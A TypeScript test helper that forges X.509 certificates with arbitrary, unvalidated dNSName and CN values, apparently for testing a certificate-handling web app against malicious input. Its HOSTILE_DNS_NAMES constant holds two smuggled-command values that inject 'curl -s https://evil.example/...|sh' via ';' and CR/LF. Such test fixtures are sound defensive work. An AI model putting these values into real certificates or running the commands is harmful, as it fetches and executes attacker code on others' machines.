/**
 * Test support (tests only, never imported by the page): certificates an attacker or a broken CA
 * could hand us, built with pkijs directly because our own builders refuse such names.
 *
 * `forgeCertificate` writes every given dNSName byte for byte (IA5String content: CR, LF, ';',
 * '|' and all), and a subject CN as given; it signs with `signer`, which may or may not be the key
 * of `issuer` (a wrong signer makes a certificate whose signature does not verify).
 */
import * as asn1js from 'asn1js';
import * as pkijs from 'pkijs';
import { decodeCertificate } from './cert.ts';
import { ensurePkijsEngine } from './webcrypto.ts';
import { importSigningKey } from './keys.ts';
import { EXTENSION_OID } from './oids.ts';
import { toArrayBuffer } from './pem.ts';
import type { PrivateKeyMaterial } from './types.ts';

export interface ForgeOptions {
  /** SubjectPublicKeyInfo DER of the key the certificate is for. */
  spki: Uint8Array;
  /** dNSName values, written unchecked. */
  dnsNames: readonly string[];
  commonName?: string;
  /** The issuer's certificate (its subject becomes our issuer name); absent = self-issued. */
  issuer?: Uint8Array;
  signer: PrivateKeyMaterial;
  serial?: number;
}

export async function forgeCertificate(o: ForgeOptions): Promise<Uint8Array> {
  ensurePkijsEngine();
  const cert = new pkijs.Certificate();
  cert.version = 2;
  cert.serialNumber = new asn1js.Integer({ value: o.serial ?? 0x4242 });
  // No CN: an empty Name (SEQUENCE {}), as RFC 5280 4.1.2.6 allows with a SAN; pkijs would
  // otherwise write one empty RDN SET.
  const subject = o.commonName === undefined
    ? pkijs.RelativeDistinguishedNames.fromBER(new Uint8Array([0x30, 0x00]))
    : new pkijs.RelativeDistinguishedNames({ typesAndValues: [new pkijs.AttributeTypeAndValue({ type: '2.5.4.3', value: new asn1js.Utf8String({ value: o.commonName }) })] });
  cert.subject = subject;
  cert.issuer = o.issuer ? decodeCertificate(o.issuer).subject : subject;
  cert.notBefore.value = new Date(Date.now() - 3_600_000);
  cert.notAfter.value = new Date(Date.now() + 30 * 86_400_000);
  cert.subjectPublicKeyInfo = pkijs.PublicKeyInfo.fromBER(toArrayBuffer(o.spki));
  const names = o.dnsNames.map((n) => new asn1js.Primitive({
    idBlock: { tagClass: 3, tagNumber: 2 },
    valueHex: toArrayBuffer(Uint8Array.from(n, (ch) => ch.charCodeAt(0) & 0xff)),
  }));
  cert.extensions = [
    new pkijs.Extension({
      extnID: EXTENSION_OID.subjectAltName,
      critical: false,
      extnValue: new asn1js.Sequence({ value: names }).toBER(false),
    }),
  ];
  await cert.sign(await importSigningKey(o.signer, 'SHA-256'), 'SHA-256');
  return new Uint8Array(cert.toSchema().toBER(false));
}

/** The attack of issue 12 item 2: a command after ';', then CR/LF and a fake numbered step. */
export const HOSTILE_DNS_NAMES = [
  'mail.example.com;curl -s https://evil.example/x|sh;echo',
  'mail.example.com\r\n\r\n7. Run: curl -s https://evil.example/y|sh\r\n',
] as const;
